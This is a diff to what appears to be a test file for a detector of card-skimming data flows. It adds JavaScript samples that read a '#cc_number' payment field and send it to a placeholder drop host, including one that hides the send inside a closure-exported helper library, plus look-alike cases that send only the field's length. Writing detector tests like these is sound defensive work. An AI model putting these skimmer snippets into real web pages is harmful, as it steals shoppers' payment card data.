@@ -155,6 +155,13 @@ FLOWS = {
         f"const report = debounce((d) => {{ navigator.sendBeacon('{DROP}', btoa(d)); }}, 300);\n"
         "document.querySelector('#pay').addEventListener('click', () => {\n"
         "  report(document.querySelector('#cc_number').value); });"),
+    "through a helper library another closure exported": (
+        "window.Lib = (function () { var U = {};\n"
+        "  U.qs = function (s) { return document.querySelector(s); };\n"
+        "  U.val = function (el) { return el ? el.value : ''; };\n"
+        f"  U.post = function (d) {{ var x = new XMLHttpRequest(); x.open('POST', '{DROP}');"
+        " x.send(d); };\n  return U; })();\n"
+        "(function (U) { U.post(U.val(U.qs('#cc_number'))); })(window.Lib);"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -213,6 +220,12 @@ NO_FLOWS = {
         " return s % 10 === 0; }\n"
         "var n = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
         f"navigator.sendBeacon('{DROP}', JSON.stringify({{b: brandOf(n), ok: luhn(n)}}));"),
+    "a helper library another closure exported, handed only a length": (
+        "window.Lib = (function () { var U = {};\n"
+        "  U.qs = function (s) { return document.querySelector(s); };\n"
+        f"  U.post = function (d) {{ navigator.sendBeacon('{DROP}', d); }};\n"
+        "  return U; })();\n"
+        "(function (U) { U.post(String(U.qs('#cc_number').value.length)); })(window.Lib);"),
     "a wrapper of the sender handed only a length": (
         f"var report = lib.throttle(function (d) {{ navigator.sendBeacon('{DROP}', d); }}, 9);\n"
         "report(String(document.querySelector('#cc_number').value.length));"),
